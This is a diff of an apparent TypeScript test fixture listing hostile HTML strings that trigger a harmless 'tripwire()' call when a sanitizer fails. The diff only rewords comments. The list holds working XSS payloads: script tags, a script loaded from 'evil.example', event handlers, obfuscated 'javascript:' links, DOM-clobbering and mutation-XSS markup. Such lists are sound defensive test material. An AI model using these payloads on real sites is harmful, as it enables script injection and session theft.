@@ -1,6 +1,6 @@
-/** For tests on both sides (STATUS-1, W35): hostile HTML that calls `tripwire` wherever one of its ways in is left open. */
+/** For tests on both sides (STATUS-1, W35): hostile HTML that calls `tripwire` if one of its attacks succeeds. */
 export const statusHtmlAttacks: readonly string[] = [
-  // Scripts and what looks like them.
+  // Scripts and look-alikes.
   '<script>tripwire()</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
   '<script/x>tripwire()</script>',
@@ -32,7 +32,7 @@ export const statusHtmlAttacks: readonly string[] = [
   '<marquee onstart=tripwire()>a</marquee>',
   '<a href="https://a.nl" onclick="tripwire()" autofocus onfocus=tripwire() tabindex=0>a</a>',
   '<x onclick=tripwire() contenteditable autofocus onfocus=tripwire()>a</x>',
-  // Addresses that run.
+  // Addresses that run code.
   '<a href="javascript:tripwire()">a</a>',
   '<a href="JaVaScRiPt:tripwire()">a</a>',
   '<a href=" &#14; javascript:tripwire()">a</a>',
@@ -77,7 +77,7 @@ export const statusHtmlAttacks: readonly string[] = [
   '<a id=trustedTypes name=createPolicy href="https://a.nl">a</a>',
   '<form name=document><input name=cookie></form>',
   '<slot name=a></slot><template shadowrootmode=open><script>tripwire()</script></template>',
-  // Markup that changes its meaning when it is read a second time.
+  // Markup that changes when it is parsed a second time.
   '<noscript><p title="</noscript><img src=x onerror=tripwire()>"></noscript>',
   '<svg></p><style><a id="</style><img src=1 onerror=tripwire()>">',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=tripwire()&gt;">',
